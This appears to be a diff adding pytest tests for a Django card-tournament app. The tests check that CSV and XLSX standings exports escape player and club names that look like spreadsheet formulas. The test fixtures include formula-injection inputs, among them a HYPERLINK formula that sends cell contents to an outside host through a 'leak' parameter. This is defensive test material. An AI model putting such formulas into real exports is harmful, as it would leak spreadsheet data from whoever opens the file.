@@ -1,0 +1,165 @@
+"""Standings exports hold text, never formulas (issue 16, item 2).
+
+A player named ``=HYPERLINK("http://…?leak="&A1,"Klick")`` was written into the XLSX
+export as a live formula and into the CSV as a cell that Excel and LibreOffice run.  Now a
+text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a string cell
+in XLSX and starts with ``'`` in CSV (OWASP, "CSV Injection"); numbers stay numbers, also
+negative point totals.  The "CSV (Excel, deutsch)" download is UTF-8 with BOM, ``;``
+separated, with a decimal comma.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from scoring import services as scoring_services
+from tournament import services
+from tournament.models import Player, Tournament
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?leak="&A1,"Klick")',
+    "+49 711 123456",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def consenting_registration(tournament: Tournament, player: Player):
+    """Register ``player`` with consent to be named (wherever consent is stored)."""
+    registration = services.register(tournament, player)
+    if hasattr(registration, "consent_public"):
+        registration.consent_public = True
+        registration.save()
+    return registration
+
+
+@pytest.fixture
+def hostile(director) -> Tournament:
+    """Six players named like formulas (first name and club), one lost game at table 1 so
+    that its declarer has a negative total, and a lost-game fee of 0.50 EUR."""
+    tournament = services.create_tournament(
+        name="Herbst", date=date(2026, 11, 21), lost_game_fee=Decimal("0.50")
+    )
+    for i, text in enumerate(FORMULAS, start=1):
+        player = Player.objects.create(
+            first_name=text, last_name=f"Nachname{i}", club=text, consent_public=True
+        )
+        consenting_registration(tournament, player)
+    round_ = tournament.round_set.get(number=1)
+    services.draw_round(round_, seed=7)
+    services.start_round(round_)
+    table = round_.tables.order_by("number").first()
+    dealer = scoring_services.dealer_for(table, 3, 1)
+    order = [(dealer + 1 + i) % 3 for i in range(3)]
+    entry = scoring_services.HandInput(
+        number=1, dealer=dealer, declarer=order[0], bid=300, outcome="played", trump="H",
+        melds=dict(zip(order, (20, 20, 60), strict=True)),
+        tricks=dict(zip(order, (30, 175, 45), strict=True)),
+    )  # fmt: skip
+    hand, evaluation = scoring_services.save_hand(table, entry, director)
+    assert hand is not None, evaluation.errors
+    assert min(hand.scores) < 0
+    return tournament
+
+
+def download(client, tournament: Tournament, fmt: str):
+    response = client.get(reverse("scoring:export", args=[tournament.pk, fmt]))
+    assert response.status_code == 200, fmt
+    return response
+
+
+def test_xlsx_writes_formula_like_names_as_string_cells(client, hostile):
+    response = download(client, hostile, "xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    for text in (t.replace("\r", "\n") for t in FORMULAS):  # XML reads CR as a line feed
+        assert text in texts  # the club, exactly as typed
+        assert any(t.startswith(text + " Nachname") for t in texts)  # the name
+    for cell in cells:
+        if isinstance(cell.value, str):
+            assert cell.data_type == "s", cell.coordinate
+    numbers = [cell.value for cell in cells if cell.data_type == "n"]
+    assert any(isinstance(n, int) and n < 0 for n in numbers)  # a negative total
+    assert Decimal("0.5") in {Decimal(str(n)) for n in numbers}  # the fee
+
+
+def rows_of(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def check_guarded(rows: list[list[str]]) -> None:
+    header, *body = rows
+    name, club, total = header.index("Name"), header.index("Verein"), header.index("Gesamt")
+    assert len(body) == len(FORMULAS)
+    assert sorted(r[club] for r in body) == sorted("'" + text for text in FORMULAS)
+    assert sorted(r[name] for r in body) == sorted(
+        f"'{text} Nachname{i}" for i, text in enumerate(FORMULAS, start=1)
+    )
+    totals = [int(r[total]) for r in body]  # plain numbers, no quote
+    assert min(totals) < 0
+    for row in body:
+        for cell in row:
+            assert not cell or cell[0] not in "=+@\t\r" and (cell[0] != "-" or cell[1:].isdigit())
+
+
+def test_csv_prefixes_formula_like_text_with_a_quote(client, hostile):
+    response = download(client, hostile, "csv")
+    assert response["Content-Type"].startswith("text/csv")
+    text = response.content.decode("utf-8")
+    assert not text.startswith("\ufeff")
+    rows = rows_of(text)
+    check_guarded(rows)
+    fee = rows[0].index("Gebühr €")
+    assert {r[fee] for r in rows[1:]} >= {"0.50"}
+
+
+def test_german_excel_csv_has_bom_semicolons_and_decimal_commas(client, hostile):
+    response = download(client, hostile, "de.csv")
+    assert response["Content-Type"].startswith("text/csv")
+    assert "rangliste" in response["Content-Disposition"]
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    rows = rows_of(response.content.decode("utf-8-sig"), delimiter=";")
+    check_guarded(rows)
+    fee = rows[0].index("Gebühr €")
+    assert {r[fee] for r in rows[1:]} >= {"0,50"}
+    assert not any("0.50" in cell for row in rows for cell in row)
+
+
+def test_german_csv_keeps_the_round_filter(client, hostile):
+    url = reverse("scoring:export", args=[hostile.pk, "de.csv"]) + "?runde=1"
+    response = client.get(url)
+    assert response.status_code == 200
+    header = rows_of(response.content.decode("utf-8-sig"), delimiter=";")[0]
+    assert "R1" in header and "R2" not in header
+
+
+def test_standings_page_links_every_download(client, hostile):
+    html = client.get(reverse("scoring:standings", args=[hostile.pk])).content.decode()
+    for fmt in ("csv", "de.csv", "xlsx"):
+        assert f'href="{reverse("scoring:export", args=[hostile.pk, fmt])}"' in html
+    assert "CSV (Excel, deutsch)" in html
+
+
+def test_xlsx_takes_control_characters_xml_cannot_hold(client, hostile):
+    Player.objects.filter(first_name="-1+1").update(first_name="Form\x0cfeed\x01")
+    response = download(client, hostile, "xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert "Form feed  Nachname3" in [c.value for row in sheet.iter_rows() for c in row]
+
+
+def test_unknown_export_formats_are_404(client, hostile):
+    for fmt in ("pdf", "json", "de.xlsx", "html"):
+        assert client.get(reverse("scoring:export", args=[hostile.pk, fmt])).status_code == 404
